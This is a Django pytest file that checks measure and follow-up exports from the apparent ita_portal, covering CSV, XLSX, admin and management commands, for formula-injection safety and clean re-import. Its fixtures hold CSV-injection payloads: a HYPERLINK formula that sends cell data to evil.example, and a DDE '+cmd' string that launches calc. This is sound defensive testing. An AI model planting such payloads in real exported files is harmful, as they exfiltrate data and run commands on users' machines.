"""Measure and follow-up exports (commands, admin) are formula-safe and import back unchanged."""

from __future__ import annotations

import io

import pytest
from django.contrib import admin
from django.contrib.auth import get_user_model
from django.test import RequestFactory
from openpyxl import load_workbook

from ita_portal.spreadsheets import SafeCSV, SafeXLSX
from measures.admin import FollowUpAdmin, MeasureAdmin
from measures.imports import (
    FOLLOW_UP_HEADERS,
    MEASURE_HEADERS,
    follow_ups_export,
    follow_ups_import,
    measures_export,
    measures_import,
)
from measures.models import FollowUp, Measure
from tests.measures.builders import make_follow_up, make_measure

HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A2,"Click")'


def _cell(content: bytes, headers: list[str], column: str):
    sheet = load_workbook(io.BytesIO(content)).active
    return sheet.cell(row=2, column=headers.index(column) + 1)


@pytest.fixture
def measure(org):
    measure = make_measure(org, title=HYPERLINK, approach="-5", monitoring="@SUM(A1)")
    make_follow_up(measure, summary="+cmd|' /C calc'!A0", outcome="-5")
    return measure


def test_the_title_is_a_text_cell_in_the_xlsx(measure):
    content = measures_export(fmt="xlsx")
    title = _cell(content, MEASURE_HEADERS, "title")
    assert title.data_type == "s" and title.value == HYPERLINK
    number = _cell(content, MEASURE_HEADERS, "fiscal_year")
    assert number.data_type == "n" and number.value == 2565


def test_the_csv_quotes_the_title(measure):
    content = measures_export(fmt="csv").decode("utf-8-sig")
    assert "'=HYPERLINK" in content and ",'-5," in content and "'@SUM(A1)" in content


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_export_imports_back_unchanged(measure, fmt):
    measures, follow_ups = measures_export(fmt=fmt), follow_ups_export(fmt=fmt)
    Measure.objects.all().delete()
    assert measures_import(content=measures, file_name=f"m.{fmt}").new == 1
    assert follow_ups_import(content=follow_ups, file_name=f"f.{fmt}").new == 1
    again = Measure.objects.get()
    assert (again.title, again.approach, again.monitoring) == (HYPERLINK, "-5", "@SUM(A1)")
    follow_up = FollowUp.objects.get()
    assert (follow_up.summary, follow_up.outcome) == ("+cmd|' /C calc'!A0", "-5")


def _admin_export(model_admin, file_format):
    user, _ = get_user_model().objects.get_or_create(username="operator", is_superuser=True)
    request = RequestFactory().get("/admin/")
    request.user = user
    queryset = model_admin.get_export_queryset(request)
    return model_admin.get_export_data(file_format, request, queryset)


def test_the_admin_exports_are_formula_safe(measure):
    measures = _admin_export(MeasureAdmin(Measure, admin.site), SafeXLSX())
    title = _cell(measures, MEASURE_HEADERS, "title")
    assert title.data_type == "s" and title.value == HYPERLINK
    follow_ups = _admin_export(FollowUpAdmin(FollowUp, admin.site), SafeCSV())
    assert b"'+cmd" in follow_ups
    Measure.objects.all().delete()
    assert measures_import(content=measures, file_name="m.xlsx").new == 1
    assert Measure.objects.get().title == HYPERLINK
    assert follow_ups_import(content=follow_ups, file_name="f.csv").new == 1
    assert FollowUp.objects.get().summary == "+cmd|' /C calc'!A0"


def test_the_commands_write_the_same_safe_files(measure, tmp_path):
    from django.core.management import call_command

    out = tmp_path / "m.xlsx"
    call_command("export_measures", "-o", str(out))
    assert _cell(out.read_bytes(), MEASURE_HEADERS, "title").data_type == "s"
    out = tmp_path / "f.csv"
    call_command("export_follow_ups", "-o", str(out))
    assert "'+cmd" in out.read_text(encoding="utf-8-sig")
    assert FOLLOW_UP_HEADERS[0] == "organisation"
